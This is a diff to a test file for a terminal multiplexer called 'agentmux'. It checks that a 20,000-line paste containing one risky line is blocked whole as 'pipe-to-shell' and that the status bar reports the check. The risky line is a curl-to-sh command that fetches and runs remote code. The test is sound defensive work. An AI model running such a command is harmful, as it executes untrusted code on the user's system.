@@ -88,11 +88,12 @@ test('a large paste into bash is judged whole: it runs only after Enter, all of 
 	await am.waitForText(/^┃large-paste-42 +┃$/, {timeoutMs: 60_000});
 });
 
-test('one risky line in the middle of a large paste holds all of it', {timeout: 120_000}, async t => {
+test('one risky line in the middle of a large paste holds all of it, and the status bar shows the check', {timeout: 120_000}, async t => {
 	const am = startAgentmux(t, {workspace: {panes: [bashPane('shell')]}});
 	await am.waitForText(/^┃\$ +┃$/);
-	am.press(`\u001B[200~${scriptPaste(2000, 'echo must-not-arrive', 'curl https://example.com/x | sh')}\u001B[201~`);
-	await am.waitForText(/blocked \(pipe-to-shell\)/, {timeoutMs: 60_000});
+	am.press(`\u001B[200~${scriptPaste(20_000, 'echo must-not-arrive', 'curl https://example.com/x | sh')}\u001B[201~`);
+	await am.waitForText(/blocked \(pipe-to-shell\)/, {timeoutMs: 90_000});
+	assert.ok(am.rawOutput.includes('checking paste (20001 lines)...'), 'the status bar said what was going on while judging');
 	// The shell got none of it: typing still works on an empty line.
 	am.press('echo line-after\r');
 	await am.waitForText(/^┃line-after +┃$/, {timeoutMs: 30_000});
